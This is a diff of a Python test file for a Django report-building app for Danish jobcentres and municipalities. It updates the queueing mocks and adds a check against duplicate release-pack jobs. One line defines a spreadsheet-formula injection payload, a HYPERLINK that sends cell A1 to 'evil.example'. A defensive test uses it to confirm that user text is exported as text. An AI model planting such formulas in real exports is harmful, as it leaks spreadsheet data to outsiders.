@@ -159,7 +159,7 @@ def test_the_csv_round_trips_through_pandas(demo_data):
 
 def test_a_report_is_kept_per_area_release_and_format(demo_data, monkeypatch):
     queued = []
-    monkeypatch.setattr(building, "enqueue", queued.append)
+    monkeypatch.setattr(building, "enqueue", lambda pk, queue: queued.append(pk))
     area = _municipality("185")
     first = building.request(area, "xlsx", 2020)
     built = building.build(first.pk)
@@ -173,7 +173,7 @@ def test_a_report_is_kept_per_area_release_and_format(demo_data, monkeypatch):
 
 def test_a_lost_build_is_queued_again_and_given_up_after_three_attempts(demo_data, monkeypatch):
     queued = []
-    monkeypatch.setattr(building, "enqueue", lambda pk: queued.append(pk) or True)
+    monkeypatch.setattr(building, "enqueue", lambda pk, queue: queued.append(pk) or True)
     report = building.request(_municipality("185"), "csv", 2020)
     Report.objects.filter(pk=report.pk).update(status="running", attempts=1, heartbeat_at=None)
     Report.objects.filter(pk=report.pk).update(requested_at=report.requested_at.replace(year=2020))
@@ -186,7 +186,7 @@ def test_a_lost_build_is_queued_again_and_given_up_after_three_attempts(demo_dat
 
 
 def test_the_chief_edits_a_goals_text_the_edit_is_logged_and_printed(demo_data, client, monkeypatch):
-    monkeypatch.setattr(building, "enqueue", lambda pk: True)
+    monkeypatch.setattr(building, "enqueue", lambda pk, queue: True)
     chief = _user(client, "chief", "chief", jobcentre=_jobcentre("taarnby-dragoer"))
     area = _municipality("185")
     old = _built(area, "pdf")
@@ -216,7 +216,7 @@ def test_the_chief_edits_a_goals_text_the_edit_is_logged_and_printed(demo_data, 
 
 
 def test_report_pages_and_downloads_answer_by_role(demo_data, client, monkeypatch):
-    monkeypatch.setattr(building, "enqueue", lambda pk: True)
+    monkeypatch.setattr(building, "enqueue", lambda pk, queue: True)
     taarnby, aarhus = _built(_municipality("185"), "csv"), _built(_municipality("751"), "csv")
     jobcentre = _built(_jobcentre("taarnby-dragoer"), "csv")
     cases = {
@@ -255,7 +255,7 @@ def test_a_release_pack_and_the_subscribers_e_mail_carry_a_link_not_figures(
     demo_data, client, monkeypatch, django_capture_on_commit_callbacks
 ):
     queued = []
-    monkeypatch.setattr(building, "enqueue", lambda pk: queued.append(pk) or True)
+    monkeypatch.setattr(building, "enqueue", lambda pk, queue: queued.append(pk) or True)
     chair = _user(client, "chair", "chair", municipality_id="185")
     assert client.post("/kommune/185/rapporter/", {"action": "subscribe"}).status_code == 302
     assert Subscription.objects.filter(user=chair, area=_municipality("185")).exists()
@@ -302,7 +302,7 @@ def test_the_pages_offer_the_report(demo_data, client):
 
 
 def test_a_targets_change_makes_the_stored_reports_stale(demo_data, monkeypatch):
-    monkeypatch.setattr(building, "enqueue", lambda pk: True)
+    monkeypatch.setattr(building, "enqueue", lambda pk, queue: True)
     report = _built(_municipality("185"), "csv")
     Target.objects.create(jobcentre=_jobcentre("taarnby-dragoer"), indicator=Indicator.objects.get(code="MM13"),
                           year=2020, value=Decimal("52"))  # fmt: skip
@@ -321,8 +321,9 @@ def test_the_charts_are_drawn_with_the_plotly_js_of_the_installed_plotly(demo_da
     assert kinds and kinds <= images.BASIC_TYPES  # every trace a goal chart has, the basic bundle draws
 
 
-def test_an_import_of_national_figures_queues_the_release_pack_and_an_own_upload_does_not(demo_data, settings,
-                                                                                        monkeypatch):  # fmt: skip
+def test_an_import_of_national_figures_queues_the_release_pack_once_and_an_own_upload_does_not(
+    demo_data, settings, monkeypatch, django_capture_on_commit_callbacks
+):
     from indicators.signals import import_finished
     from reports import tasks
 
@@ -330,10 +331,13 @@ def test_an_import_of_national_figures_queues_the_release_pack_and_an_own_upload
     sent = []
     monkeypatch.setattr(tasks.build_pack, "apply_async", lambda args, **options: sent.append((args, options)))
     release = releases.current()
-    import_finished.send(sender=ImportRun, import_run=release, indicator_ids=[])
-    assert sent == [((release.pk,), {"queue": settings.REPORTS_QUEUE, "countdown": 30, "retry": False})]
+    with django_capture_on_commit_callbacks(execute=True):
+        for _ in range(3):  # the import announced again (issue 20: the pack was queued three times)
+            import_finished.send(sender=ImportRun, import_run=release, indicator_ids=[])
+    assert sent == [((release.pk,), {"queue": settings.PACKS_QUEUE, "countdown": 30, "retry": False})]
     upload = ImportRun.objects.create(source="manual", status="succeeded", rows_created=3)
-    import_finished.send(sender=ImportRun, import_run=upload, indicator_ids=[])
+    with django_capture_on_commit_callbacks(execute=True):
+        import_finished.send(sender=ImportRun, import_run=upload, indicator_ids=[])
     assert len(sent) == 1  # a municipality's own figures are no release
 
 
@@ -342,7 +346,7 @@ HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")'
 
 def test_no_name_or_text_from_a_user_runs_as_a_formula_in_the_report_workbook_or_csv(demo_data, client, monkeypatch):
     """R10: a chief's report texts and own indicator's name come out as text in every sheet and in the CSV."""
-    monkeypatch.setattr(building, "enqueue", lambda pk: True)
+    monkeypatch.setattr(building, "enqueue", lambda pk, queue: True)
     jobcentre, area = _jobcentre("taarnby-dragoer"), _municipality("185")
     chief = _user(client, "chief", "chief", jobcentre=jobcentre)
     own = local_indicators.create(jobcentre, Goal.objects.get(number=3), Municipality.objects.get(code="185"), chief,
